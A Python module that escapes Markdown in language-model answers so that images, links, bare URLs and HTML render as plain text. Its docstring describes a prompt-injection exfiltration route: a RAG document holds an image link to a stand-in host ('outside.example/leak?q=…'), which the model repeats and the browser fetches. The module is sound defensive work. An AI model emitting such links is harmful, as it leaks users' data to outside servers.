"""Model output made safe to render as Markdown in the browser.

A model repeats what it reads: a RAG document or a chat turn holding
``![status](https://outside.example/leak?q=…)`` comes back in its answer, and
Markdown would have the browser fetch that address (carrying whatever the model
put into it) the moment the answer is shown. :func:`safe_markdown` keeps the
answer's formatting (bold, lists, headings, code blocks) but turns every image,
link, autolink, bare URL and raw HTML into plain text, so showing an answer never
makes a request and never offers a link.

Fenced code blocks that start at the beginning of a line are left as they are: in
CommonMark their content is never a link or an image. Everything else is escaped
character by character (``\\`` ``[`` ``]`` ``<`` ``$``), plus the ``:`` of
``scheme://`` and the ``.`` of ``www.`` (GitHub-flavoured Markdown links bare
addresses), which renders the same characters as text.
"""

from __future__ import annotations

import re

_FENCE = re.compile(r"^(`{3,}|~{3,})(.*)$")
_CLOSING = re.compile(r"^ {0,3}(`{3,}|~{3,})[ \t]*$")
_ESCAPED = re.compile(r"([\\\[\]<$])")
_SCHEME = re.compile(r"(?i)\b([a-z][a-z0-9+.-]*):(?=//)")
_WWW = re.compile(r"(?i)\b(www)\.")


def _escape(text: str) -> str:
    text = _ESCAPED.sub(r"\\\1", text)
    text = _SCHEME.sub(r"\1\\:", text)
    return _WWW.sub(r"\1\\.", text)


def safe_markdown(text: str) -> str:
    """``text`` as Markdown that renders its formatting but no image, link or HTML.

    Args:
        text: what a model wrote (any string).

    Returns:
        Markdown for ``st.markdown``: the same words, with images, links, autolinks and
        HTML shown as the characters they are made of.
    """
    out: list[str] = []
    plain: list[str] = []
    fence: tuple[str, int] | None = None  # (character, length) of the open fence
    for line in text.splitlines(keepends=True):
        body = line.rstrip("\r\n")
        if fence is None:
            match = _FENCE.match(body)
            if match and not (match.group(1)[0] == "`" and "`" in match.group(2)):
                out.append(_escape("".join(plain)))
                plain = []
                fence = (match.group(1)[0], len(match.group(1)))
                out.append(line)
            else:
                plain.append(line)
        else:
            out.append(line)
            closing = _CLOSING.match(body)
            if closing and closing.group(1)[0] == fence[0] and len(closing.group(1)) >= fence[1]:
                fence = None
    out.append(_escape("".join(plain)))
    return "".join(out)
